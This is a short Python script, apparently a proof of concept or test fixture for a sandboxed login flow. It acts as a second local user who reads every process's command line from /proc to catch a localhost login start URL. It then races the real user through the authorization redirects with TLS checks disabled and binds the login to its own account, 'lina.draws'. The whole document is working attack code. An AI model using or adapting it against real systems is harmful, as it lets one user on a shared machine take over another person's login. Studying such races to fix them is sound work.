# Another user of the machine, who wants to be the one that a login connects: reads the arguments of all programs, and
# visits any start address before the person does. argv[1] is in the arguments of that login alone.
import http.client, os, re, ssl, sys, time
from urllib.parse import parse_qsl, urlencode, urljoin, urlsplit, urlunsplit

context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
seen = set()

def say(word):
    if word not in seen:
        seen.add(word)
        print(word, flush=True)

def arguments():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline") as file:
                yield file.read()
        except OSError:
            pass

def get(url):
    parts = urlsplit(url)
    if parts.scheme == "https":
        connection = http.client.HTTPSConnection(parts.hostname, parts.port, timeout=5, context=context)
    else:
        connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=5)
    connection.request("GET", urlunsplit(("", "", parts.path, parts.query, "")))
    reply = connection.getresponse()
    return reply.headers

def start_address():
    for text in arguments():
        if sys.argv[1] not in text:
            continue
        found = re.search(r"https://localhost:\d+/start/[\w-]+", text)
        if found:
            return found[0]
        page = re.search(r"file://(/[^\0]*login-\d+\.html)", text)
        if page:
            say("saw the page")
            try:
                with open(page[1]) as file:
                    return re.search(r"url=([^\"]+)", file.read())[1]
            except OSError:
                pass

def take(address):
    say("saw the address")
    authorize = get(address)["location"]
    if not authorize:
        say("came too late")
        return
    consent = urljoin(authorize, get(authorize)["x-sandbox-answer"])
    parts = urlsplit(consent)
    fields = dict(parse_qsl(parts.query), account="lina.draws")
    back = get(urlunsplit(parts._replace(query=urlencode(fields))))["location"]
    get(back)
    say("came first")

say("ready")
while "came first" not in seen:
    address = start_address()
    if address:
        take(address)
    time.sleep(0.002)
